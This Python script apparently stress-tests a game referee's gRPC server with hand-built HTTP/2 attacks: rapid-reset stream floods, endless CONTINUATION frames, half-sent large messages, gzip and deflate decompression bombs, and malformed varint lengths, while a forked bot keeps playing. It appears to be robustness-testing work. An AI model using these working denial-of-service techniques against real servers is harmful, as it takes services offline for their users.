"""Attacks on the referee's wire: `python attacks.py NAME SECONDS` attacks for so long.

An attack decides about every frame and every byte, so this is a client for HTTP/2 and gRPC without
a library of either. Flow control is kept unless an attack sends frames itself, because a server
ends the connection otherwise. The program plays as well, slowly, so that its match lasts.
"""

import contextlib
import gzip
import os
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Iterator

MIB = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, INITIAL_WINDOW_SIZE = 1, 1, 4, 4
FRAME_BYTES = 16_384
PLAY = "/asara.v1.PlayService/Play"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"

_WAIT_S = 10.0
"""Seconds without room to send, after which an attack gives a connection up."""
_PAUSE_S = 0.1
"""Seconds that the playing half thinks about each decision."""

ends_s = 0.0
"""Monotonic time at which the attack ends."""


def rounds(pause_s: float = 0.0) -> Iterator[int]:
    """Count from 0 while there is time, with a pause after each round."""
    number = 0
    while time.monotonic() < ends_s:
        yield number
        number += 1
        if pause_s:
            time.sleep(pause_s)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(path: str, *more: tuple[str, str]) -> bytes:
    """Return the headers of a gRPC call, as HPACK literals without an index."""
    pairs = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    texts = ((name.encode(), value.encode()) for name, value in pairs)
    return b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in texts
    )


def message(data: bytes, *, compressed: bool = False) -> bytes:
    """Return a gRPC message: its length and its bytes."""
    return struct.pack(">BI", compressed, len(data)) + data


class Connection:
    """A connection of HTTP/2. Every method raises OSError once the connection is over."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_UNIX)
        self._socket.settimeout(_WAIT_S)
        self._socket.connect(os.environ["ASARA_ADDRESS"].removeprefix("unix:"))
        self._received = bytearray()
        self._window = self._first_window = 65_535
        self._windows: dict[int, int] = {}
        self._next_stream = 1
        self.ended: set[int] = set()
        """Streams that the server has ended, unless an attack removes them."""
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self) -> "Connection":
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def open(self, path: str, *more: tuple[str, str]) -> int:
        """Begin a call; return its stream."""
        stream = self._next_stream
        self._next_stream += 2
        self.send(frame(HEADERS, END_HEADERS, stream, header_block(path, *more)))
        self._windows[stream] = self._first_window
        return stream

    def write(self, stream: int, data: bytes, *, end: bool = False) -> None:
        """Send bytes of a stream, as fast as the server takes them."""
        left = memoryview(data)
        since = time.monotonic()
        while left and stream not in self.ended:
            room = min(len(left), FRAME_BYTES, self._window, self._windows.get(stream, 0))
            if room <= 0:
                if time.monotonic() > min(since + _WAIT_S, ends_s):
                    raise OSError("the server takes no more")
                self.pump(0.05)
                continue
            since = time.monotonic()
            flags = END_STREAM if end and room == len(left) else 0
            self.send(frame(DATA, flags, stream, bytes(left[:room])))
            self._window -= room
            self._windows[stream] -= room
            left = left[room:]
            self.pump(0)

    def pump(self, seconds: float) -> None:
        """Handle the frames that have arrived; wait for some for this time."""
        if not select.select([self._socket], [], [], seconds)[0]:
            return
        data = self._socket.recv(1 << 18)
        if not data:
            raise ConnectionError("the server closed the connection")
        self._received += data
        while len(self._received) >= 9:
            size = 9 + int.from_bytes(self._received[:3], "big")
            if len(self._received) < size:
                break
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            self._handle(kind, flags, stream & 0x7FFFFFFF, bytes(self._received[9:size]))
            del self._received[:size]

    def _handle(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for number, value in struct.iter_unpack(">HI", payload):
                if number == INITIAL_WINDOW_SIZE:
                    for other in self._windows:
                        self._windows[other] += value - self._first_window
                    self._first_window = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            (value,) = struct.unpack(">I", payload)
            if stream == 0:
                self._window += value
            elif stream in self._windows:
                self._windows[stream] += value
        elif kind == DATA and payload:
            more = struct.pack(">I", len(payload))
            self.send(frame(WINDOW_UPDATE, 0, 0, more) + frame(WINDOW_UPDATE, 0, stream, more))
        elif kind == GOAWAY:
            raise ConnectionError("the server says goodbye")
        if kind == RST_STREAM or (kind in {HEADERS, DATA} and flags & END_STREAM):
            self.ended.add(stream)
            self._windows.pop(stream, None)


def again() -> Iterator[Connection]:
    """Connect again whenever a connection ends."""
    for _ in rounds(0.01):
        with contextlib.suppress(OSError), Connection() as connection:
            yield connection


def rapid_reset() -> None:
    """Open streams and reset them immediately."""
    block = header_block(PLAY)
    for connection in again():
        stream = 1
        with contextlib.suppress(OSError):
            for _ in rounds():
                burst = bytearray()
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS, stream, block)
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    stream += 2
                connection.send(bytes(burst))
                connection.pump(0)
                connection.ended.clear()


def continuations() -> None:
    """Begin headers and never end them."""
    more = b"\0\x01x" + b"\x7f" + b"\x80\x7e" + b"y" * 16_255
    for connection in again():
        with contextlib.suppress(OSError):
            connection.send(frame(HEADERS, 0, 1, header_block(PLAY)))
            for _ in rounds():
                connection.send(frame(CONTINUATION, 0, 1, more[:FRAME_BYTES]))


def half_messages() -> None:
    """Send all but the last byte of messages of 8 MiB, on many streams."""
    body = message(bytes(8 * MIB - 16))[:-1]
    held = []
    for _ in rounds(0.01):
        with contextlib.suppress(OSError):
            connection = Connection()
            held.append(connection)
            for _ in range(20):
                connection.write(connection.open(PLAY), body)
                connection.write(connection.open(HEALTH_CHECK), body)


def inflated_messages() -> None:
    """Send compressed messages that inflate a thousandfold."""
    bombs = {"gzip": gzip.compress(bytes(60 * MIB)), "deflate": zlib.compress(bytes(8 * MIB - 99))}
    for connection in again():
        with contextlib.suppress(OSError):
            for number in rounds():
                name = ("gzip", "deflate")[number % 2]
                for path in (PLAY, HEALTH_CHECK):
                    stream = connection.open(path, ("grpc-encoding", name))
                    connection.write(stream, message(bombs[name], compressed=True), end=True)
                connection.pump(0.05)


def varints() -> None:
    """Send requests whose length is a number of 64 KiB, many at once, on the bot's own stream."""
    from asara.v1.play_pb2 import Hello, PlayRequest

    first = PlayRequest(hello=Hello(protocol_version=1, token=os.environ["ASARA_TOKEN"]))
    starts = (b"\x12", b"\x12\xfa\xff\x03\x0a\x00\x10", b"\x0a", b"\x12\xfa\xff\x03\x0a\x00\x1a")
    burst = b"".join(message(start + b"\xff" * (65_536 - len(start))) for start in starts) * 4
    for connection in again():
        with contextlib.suppress(OSError):
            stream = connection.open(PLAY)
            connection.write(stream, message(first.SerializeToString()))
            while stream not in connection.ended and time.monotonic() < ends_s:
                connection.write(stream, burst)


def play() -> None:
    """Play the first legal actions, slowly while the attack lasts."""
    import asara  # after the fork, which gRPC does not survive

    def decide(decision: asara.Decision, _match: asara.Match) -> asara.Action:
        if time.monotonic() < ends_s:
            time.sleep(_PAUSE_S)
        return decision.legal_actions[0]

    asara.run(decide)


if __name__ == "__main__":
    ends_s = time.monotonic() + float(sys.argv[2])
    if sys.argv[1] == "varints":
        varints()
    elif os.fork() == 0:
        globals()[sys.argv[1]]()
        os._exit(0)
    else:
        play()
